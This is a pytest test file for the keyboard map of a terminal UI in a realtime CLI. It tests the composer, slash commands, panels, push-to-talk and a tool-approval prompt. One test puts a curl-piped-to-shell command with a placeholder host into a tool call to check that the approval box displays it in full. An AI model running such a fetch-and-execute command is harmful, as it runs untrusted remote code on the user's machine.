"""Keys -> events: single keys, the composer and questions, as tables of keys."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest
from prompt_toolkit.key_binding import KeyPress as Key
from prompt_toolkit.keys import KEY_ALIASES
from prompt_toolkit.keys import Keys as Names
from rich.text import Text

from realtime_cli.conversation.events import ToolWaiting
from realtime_cli.tui.key_events import (
    COMMANDS,
    KeyEvent,
    KeyPress,
    PanelName,
    SlashCommand,
    ToolAnswer,
    TypedLine,
)
from realtime_cli.tui.key_map import KeyMap
from realtime_cli.tui.theme import PRETTY, Theme


class Surface:
    """What is on the screen beside the keyboard's own rows."""

    def __init__(self, question: ToolWaiting | None = None) -> None:
        self.theme: Theme = PRETTY
        self.question = question

    def refresh(self) -> None: ...

    def panel_lines(self, name: PanelName, width: int) -> list[Text]:
        return [Text(f"{name} {number}") for number in range(1, 31)]


class Typist:
    """Presses keys one after the other; ``came`` are the events."""

    def __init__(
        self,
        question: ToolWaiting | None = None,
        *,
        push_to_talk: bool = False,
        manual_turns: bool = False,
        without: tuple[str, ...] = (),
    ) -> None:
        self.surface = Surface(question)
        self.came: list[KeyEvent] = []
        self.map = KeyMap(
            self.surface,
            self.came.append,
            push_to_talk=push_to_talk,
            manual_turns=manual_turns,
            without=without,
        )

    def press(self, *keys: str) -> list[KeyEvent]:
        """Single letters, or names as prompt_toolkit has them; returns what came of them."""
        before = len(self.came)
        for key in keys:
            self.map.feed([Key(key if len(key) == 1 else Names(KEY_ALIASES.get(key, key)))])
            self.map.flush()
        return self.came[before:]

    def paste(self, text: str) -> None:
        self.map.feed([Key(Names.BracketedPaste, text)])

    def alt_enter(self) -> None:
        self.map.feed([Key(Names.Escape), Key(Names.Enter)])

    def rows(self, width: int = 80, room: int = 20) -> list[str]:
        return [row.plain.rstrip() for row in self.map.rows(width, room)]

    @property
    def shown(self) -> str:
        return "\n".join(self.rows())


ASKED = ToolWaiting(
    1.0, 1, "c1", "delete", '{"path": "/tmp/x"}', action="/bin/rm -- /tmp/x", origin="command in /home/me"
)
FOR_RESULT = ToolWaiting(1.0, 1, "c2", "measure", "{}", "output")


async def test_single_keys_have_meanings() -> None:
    typist = Typist()
    typist.press(" ", "i", "escape", "v", "n", "r", "e", "E", "x", "left", "f5")
    assert [event.meaning for event in typist.came if isinstance(event, KeyPress)] == [
        "mute",
        "interrupt",
        "interrupt",
        "video",
        "note",
        "reload",
        "echo",
        "echo",
    ]


async def test_q_asks_to_be_pressed_again() -> None:
    typist = Typist()
    assert typist.press("q") == []
    assert typist.rows() == ["q again to end the session"]
    typist.press("v")
    assert typist.press("q") == []
    assert typist.press("Q") == [KeyPress("quit")]


async def test_the_composer_stays_open_and_no_letter_is_a_command() -> None:
    typist = Typist()
    assert typist.rows()[0].startswith("space mute · t write")
    lines = ["quit it", "i am here", "very well"]
    assert typist.press("t", *"quit it", "c-m", *"i am here", "c-m", *"very well", "c-m") == [
        TypedLine(line) for line in lines
    ]
    assert "── writing ─" in typist.rows()[0]
    assert typist.press("escape", "v") == [KeyPress("video")]
    assert "writing" not in typist.shown


@pytest.mark.parametrize(("key", "text"), [("t", ""), ("c-m", ""), ("/", "/")])
async def test_what_opens_the_composer(key: str, text: str) -> None:
    typist = Typist()
    typist.press(key)
    assert (typist.map.writing, typist.map.composer.text) == (True, text)


async def test_a_paste_opens_it_and_keeps_its_lines() -> None:
    typist = Typist()
    typist.paste("def f():\r\n\treturn 1\x1b[0m")
    typist.alt_enter()
    assert typist.press(*"end", "c-m") == [TypedLine("def f():\n return 1[0m\nend")]


async def test_the_editing_keys_of_readline() -> None:
    typist = Typist()
    typist.press("t", *"one two", "c-w", *"three", "c-a", *"> ", "c-e", "backspace", "backspace")
    assert typist.map.composer.text == "> one thr"
    typist.press("c-u", *"ab", "left", "x")
    assert typist.map.composer.text == "axb"


async def test_an_emptied_composer_stays() -> None:
    typist = Typist()
    typist.press("t", "h", "backspace", "backspace", "backspace")
    assert typist.press("q") == []
    assert typist.map.composer.text == "q"


async def test_history_has_what_was_sent_and_what_was_left() -> None:
    typist = Typist()
    typist.press("t", *"first", "c-m", *"left behind", "escape", "t")
    await asyncio.sleep(0.01)  # prompt_toolkit loads its history in a task
    typist.press("up")
    assert typist.map.composer.text == "left behind"
    typist.press("up")
    assert typist.map.composer.text == "first"
    typist.press("down", "down")
    assert typist.map.composer.text == ""


async def test_the_menu_of_commands() -> None:
    typist = Typist()
    typist.press("/", "s")
    assert [row.split("  ")[1] for row in typist.rows() if row.startswith("  /")] == [
        "/save [PATH]",
        "/say TEXT",
        "/send JSON",
        "/set KEY=VALUE",
        "/settings",
    ]
    assert typist.press("down", "c-m") == [SlashCommand("save")]
    typist.press("/", "s", "down", "down", "c-m")  # /say needs a text: it is waited for
    assert typist.press(*"hello", "c-m") == [SlashCommand("say", "hello")]
    assert typist.press("/", *"mu", "tab", "c-m") == [SlashCommand("mute")]
    typist.press(*"/set ")
    assert "  KEY=VALUE  change a setting of the session" in typist.rows()


async def test_an_image_is_completed_behind_an_at_sign(tmp_path: Path) -> None:
    (tmp_path / "my cat.png").touch()
    (tmp_path / "mice.txt").touch()
    typist = Typist()
    typist.press("t", *f"who is @{tmp_path}/m", "tab", *"then?", "c-m")
    assert typist.came == [SlashCommand("image", f"'{tmp_path}/my cat.png' who is my cat.png then?")]


async def test_help_is_a_panel_and_leaves_nothing_behind() -> None:
    typist = Typist()
    typist.press("?")
    assert "/mute" in "\n".join(typist.rows(80, 40))
    typist.press("?")
    assert "/mute" not in typist.shown
    typist.press("?")
    pages = ["\n".join(typist.rows(60, 9))]
    for _ in range(12):
        typist.press("pagedown")
        assert len(typist.rows(60, 9)) == 9
        pages.append("\n".join(typist.rows(60, 9)))
    assert all(any(f"/{name}" in page for page in pages) for name in COMMANDS)
    assert "? or Esc closes this" in pages[-1]
    assert pages[-1] == pages[-2]
    typist.press("/", *"help", "c-m")
    assert "/help or Esc closes this" in typist.shown
    assert "writing" in typist.shown
    typist.press("escape")
    assert "writing" in typist.shown
    assert "closes this" not in typist.shown
    assert typist.came == []


@pytest.mark.parametrize(
    ("key", "command", "name"),
    [
        ("l", "/latency", "latency"),
        ("f", "/tools", "tools"),
        ("o", "/output", "output"),
        ("s", "/settings", "settings"),
    ],
)
async def test_panels_open_and_close_by_key_and_by_command(key: str, command: str, name: str) -> None:
    typist = Typist()
    typist.press(key)
    assert typist.rows(60, 10)[0].startswith(f"── {name} ─")
    typist.press("down", "down", "up")
    assert typist.rows(60, 10)[1] == f"{name} 2"
    assert typist.rows(60, 10)[-1] == f"{key} or Esc closes this · up and down scroll · 2-9 of 30"
    typist.press(key)
    assert name not in typist.rows()[0].split("·")[0]
    typist.press(key, "escape")
    assert "closes this" not in typist.shown
    typist.press("t", *command, "c-m")
    assert f"{command} or Esc closes this" in typist.shown
    typist.press("down", *command, "c-m")
    assert "closes this" not in typist.shown
    assert typist.came == []


async def test_a_question_is_never_hidden_by_a_panel() -> None:
    typist = Typist()
    typist.press("l")
    typist.surface.question = ASKED
    assert "May this run?" in typist.shown
    typist.press("l")
    assert "latency 1" in typist.shown
    typist.press("l")
    assert "May this run?" in typist.shown


async def test_a_mistake_is_told_until_the_next_key_and_leaves_nothing_behind() -> None:
    typist = Typist()
    assert typist.press("t", *"/nonsense", "c-m") == []
    assert "no command /nonsense" in typist.shown
    typist.press("escape")
    assert "nonsense" not in typist.shown


async def test_hints_name_only_what_works() -> None:
    typist = Typist(without=("video", "echo", "save"))
    assert "video" not in "\n".join(typist.rows(200, 4))
    assert "v video" in "\n".join(Typist().rows(200, 4))
    typist.press("?")
    shown = "\n".join(typist.rows(100, 40))
    assert [word for word in ("video", "echo", "save", "latency") if word in shown] == ["latency"]
    typist.press("?")
    assert typist.press("v", "e") == []
    assert "There is no echo to control here." in typist.shown
    typist.press("/", "s")
    assert "/save" not in typist.shown
    assert "/say" in typist.shown


async def test_push_to_talk_by_tapping_and_by_holding() -> None:
    typist = Typist(push_to_talk=True)
    assert "space to talk" in typist.shown
    assert typist.press(" ") == [KeyPress("talk")]
    assert "space to send" in typist.shown
    assert typist.press(" ") == [KeyPress("release")]
    typist.map.holds = True
    assert "hold space" in typist.shown
    assert typist.press(" ", " ") == [KeyPress("talk")]
    typist.press("t")  # while it is held
    typist.map.released()
    typist.map.released()
    assert typist.came[-1] == KeyPress("release")
    assert len(typist.came) == 4


@pytest.mark.parametrize(
    ("keys", "verdict"),
    [
        (["y"], "once"),
        (["1"], "once"),
        (["down", "c-m"], "once"),
        (["a"], "session"),
        (["down", "down", "c-m"], "session"),
        (["n"], "no"),
        (["3"], "no"),
        (["up", "up", "c-m"], "no"),
    ],
)
async def test_a_question_is_answered_by_letter_number_or_arrow(keys: list[str], verdict: str) -> None:
    assert Typist(ASKED).press(*keys) == [ToolAnswer("c1", verdict)]  # type: ignore[arg-type]


async def test_the_box_shows_the_whole_call() -> None:
    typist = Typist(ASKED)
    assert typist.rows()[0].startswith("╭─ May this run? ─")
    shown = ('delete(path="/tmp/x")', "runs: /bin/rm -- /tmp/x", "from: command in /home/me")
    assert [words in row for words, row in zip(shown, typist.rows()[1:4], strict=True)] == [True] * 3
    assert len(typist.rows()) == 10
    assert typist.rows()[-1] == "up, down, Enter answer · t write · ? help · q quit"
    assert typist.press("q") == []
    assert typist.rows()[-1] == "q again to end the session"
    assert typist.press("x") == []
    assert len(typist.rows(60, 6)) == 6
    assert "y yes  a always  n no  b no, because" in typist.rows(60, 6)[3]
    assert "see above" in typist.rows(60, 4)[1]


async def test_the_box_hides_nothing_behind_an_address() -> None:
    action = "/bin/sh -c 'curl https://" + "a" * 90 + "|sh'"
    typist = Typist(ToolWaiting(1.0, 1, "c1", "get", "{}", action=action, origin="command in /home/me"))
    shown = "".join(row.strip("│ ") for row in typist.rows(60, 20) if row.startswith("│"))
    assert "a" * 90 + "|sh'" in shown


async def test_no_because() -> None:
    typist = Typist(ASKED)
    assert typist.press("b", *"it is late", "c-m") == [ToolAnswer("c1", "no", "it is late")]
    assert not typist.map.writing
    assert typist.press("4", "x", "escape") == []
    assert typist.press("y") == [ToolAnswer("c1", "once")]


async def test_a_line_answers_while_something_is_written() -> None:
    typist = Typist()
    typist.press("t", "y")
    typist.surface.question = ASKED
    assert typist.press("c-m") == [ToolAnswer("c1", "once")]
    assert typist.press(*"yesterday I saw it", "c-m") == [TypedLine("yesterday I saw it")]
    assert typist.press(*"no, because I said so", "c-m") == [ToolAnswer("c1", "no", "I said so")]
    assert typist.press("down", "c-m") == [ToolAnswer("c1", "once")]
    assert typist.map.writing
    assert typist.press("2", "c-m") == [ToolAnswer("c1", "session")]
    assert "y, a, n, b and Enter answer" in typist.rows()[-1]
    assert typist.press("b", "c-m") == []
    assert typist.press(*"not today", "c-m") == [ToolAnswer("c1", "no", "not today")]
    assert typist.map.writing
    typist.surface.question = None
    assert typist.press("y", "c-m") == [TypedLine("y")]


async def test_a_result_is_written() -> None:
    typist = Typist(FOR_RESULT)
    assert typist.press("a", *"no more than 42", "c-m") == [ToolAnswer("c2", "once", "no more than 42")]
    assert typist.press("n") == [ToolAnswer("c2", "no")]
    assert typist.press("y") == []


async def test_an_answer_is_not_given_to_another_question() -> None:
    typist = Typist(FOR_RESULT)
    typist.press("a", *"42")
    typist.surface.question = ASKED
    assert typist.press("c-m") == []
    assert "That question is no longer open." in typist.shown


@pytest.mark.parametrize("question", [None, ASKED, FOR_RESULT])
async def test_the_rows_fit(question: ToolWaiting | None) -> None:
    for keys in ([], ["t"], ["t", *"word " * 60], ["/"], ["?"], ["l"]):
        typist = Typist(question)
        typist.press(*keys)
        for width, room in [(40, 4), (59, 16), (80, 20), (100, 36)]:
            rows = typist.map.rows(width, room)
            assert 1 <= len(rows) <= room, (keys, width, room)
            assert all(row.cell_len <= width for row in rows), (keys, width)


async def test_space_and_enter_in_an_empty_composer_end_a_manual_turn() -> None:
    typist = Typist(manual_turns=True)
    assert "space ends your turn" in typist.shown
    assert typist.press(" ") == [KeyPress("commit")]
    assert typist.press("t", "c-m") == [KeyPress("commit")]
    assert typist.press("H", "i", "c-m") == [TypedLine("Hi")]
